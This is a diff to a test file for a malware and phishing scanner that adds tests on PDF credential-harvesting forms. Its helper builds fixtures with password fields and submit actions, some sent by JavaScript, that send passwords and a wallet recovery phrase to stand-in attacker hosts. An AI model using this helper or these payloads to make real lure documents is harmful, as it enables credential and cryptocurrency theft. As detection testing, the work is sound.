@@ -22,7 +22,15 @@ from xml.sax.saxutils import quoteattr
 
 import pytest
 from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, StreamObject, TextStringObject
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    NumberObject,
+    StreamObject,
+    TextStringObject,
+)
 
 from coinguard.config import parse_config
 from coinguard.findings import Verdict
@@ -153,8 +161,11 @@ def test_disguised_word_xml_with_content_and_no_macros_is_only_tagged(data: byte
 
 
 # -- PDF credential lures ---------------------------------------------------------------------------------------
-def pdf(lines: list[str], links: list[str], *, fields: list[str] | None = None) -> bytes:
-    """A one-page PDF with Helvetica text lines, a button-sized /Link per URL and optional AcroForm text fields."""
+def pdf(lines: list[str], links: list[str], *, fields: list[str] | None = None, password: bool = False,
+        submit: str = "", js_submit: str = "") -> bytes:
+    """A one-page PDF with Helvetica text lines, a button-sized /Link per URL and optional AcroForm text fields
+    (``password``: the first one flagged as a password field) with a submit button (a SubmitForm action to
+    ``submit``, or JavaScript ``this.submitForm`` to ``js_submit``)."""
     w = PdfWriter()
     page = w.add_blank_page(612, 792)
     content = StreamObject()
@@ -180,7 +191,21 @@ def pdf(lines: list[str], links: list[str], *, fields: list[str] | None = None) 
                                    NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject(field),
                                    NameObject("/Rect"): ArrayObject(FloatObject(v) for v in (300, 500 - 30 * n,
                                                                                             500, 520 - 30 * n))})
+        if password and n == 0:
+            widget[NameObject("/Ff")] = NumberObject(1 << 13)
         widgets.append(w._add_object(widget))
+    if submit or js_submit:
+        act = (DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): DictionaryObject(
+                   {NameObject("/FS"): NameObject("/URL"), NameObject("/F"): TextStringObject(submit)})})
+               if submit else
+               DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
+                                 NameObject("/JS"): TextStringObject(f'this.submitForm({{cURL: "{js_submit}"}});')}))
+        button = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
+                                   NameObject("/Subtype"): NameObject("/Widget"), NameObject("/FT"): NameObject("/Btn"),
+                                   NameObject("/Ff"): NumberObject(1 << 16), NameObject("/T"): TextStringObject("send"),
+                                   NameObject("/A"): act,
+                                   NameObject("/Rect"): ArrayObject(FloatObject(v) for v in (300, 100, 400, 130))})
+        widgets.append(w._add_object(button))
     page[NameObject("/Annots")] = ArrayObject(annots + widgets)
     if widgets:
         w._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject(widgets)})
@@ -237,6 +262,60 @@ def test_benign_pdfs_with_links_or_forms_are_not_stopped(lines: list[str], links
     assert "pdf.signin_alert" not in found(verdict)
     assert str(verdict.verdict) == worst, verdict.findings
     assert str(verdict.action) != "quarantine"
+
+
+@pytest.mark.parametrize(
+    ("lines", "kwargs", "basis"),
+    [
+        # a sign-in form in the PDF itself: the password field (flagged so) is sent to the kit's server
+        (["Your account has been suspended.", "Sign in below to verify your account."],
+         {"fields": ["email", "pw"], "password": True, "submit": "https://login-verify.example/post.php"},
+         "two strong"),
+        # the same with the field named "Passwort", sent by JavaScript
+        (["Ihr Konto wurde gesperrt.", "Bitte anmelden und bestätigen."],
+         {"fields": ["Benutzer", "Passwort"], "js_submit": "https://konto-check.example/p"}, "two strong"),
+        # a wallet "restore" form: the recovery phrase goes to a web address (conclusive alone)
+        (["Wallet synchronisation", "Enter your words below."],
+         {"fields": ["Recovery phrase (12 words)"], "submit": "https://wallet-sync.example/r"}, "conclusive"),
+    ],
+)
+def test_pdf_credential_forms_are_quarantined(lines: list[str], kwargs: dict[str, object], basis: str) -> None:
+    verdict = scan("form.pdf", pdf(lines, [], **kwargs))  # type: ignore[arg-type]
+    assert "pdf.credential_form" in found(verdict), verdict.findings
+    assert outcome(verdict) == STOPPED and verdict.basis.startswith(basis), verdict.basis
+
+
+@pytest.mark.parametrize(
+    "kwargs",
+    [
+        # a tax office's e-form: fields and a submit button to its server, no secret asked
+        {"fields": ["name", "tax_number", "iban"], "submit": "https://forms.tax.example.gov/submit"},
+        # a form that asks for a passport number and a boarding pass (no password)
+        {"fields": ["passport_no", "boarding pass"], "submit": "https://visa.example.gov/apply"},
+        # a password field in a form that sends nothing (filled in and printed)
+        {"fields": ["new password"], "password": True},
+    ],
+)
+def test_benign_pdf_forms_stay_clean(kwargs: dict[str, object]) -> None:
+    lines = ["Application form", "Please fill in all fields."]
+    verdict = scan("form.pdf", pdf(lines, [], **kwargs))  # type: ignore[arg-type]
+    assert outcome(verdict) == ("clean", "accept"), verdict.findings
+
+
+@pytest.mark.parametrize(
+    ("lines", "stopped"),
+    [
+        # a brand claim: the lure names a wallet and links elsewhere (crypto theme + the strong lure)
+        (["Your MetaMask wallet has been locked due to unusual activity.", "Sign in to verify your wallet."], True),
+        # no brand, no sign-in record: the credential lure alone is tagged
+        (["Your account has been locked due to unusual activity.", "Sign in to verify your identity."], False),
+    ],
+)
+def test_pdf_credential_lure_with_a_brand_claim(lines: list[str], stopped: bool) -> None:
+    verdict = scan("notice.pdf", pdf(lines, ["https://secure-login.example/verify"]))
+    assert "pdf.credential_lure" in found(verdict)
+    assert (outcome(verdict) == STOPPED) is stopped, verdict.basis
+    assert str(verdict.verdict) != "clean"
 
 
 # -- the issue's other techniques reach quarantine -----------------------------------------------------------
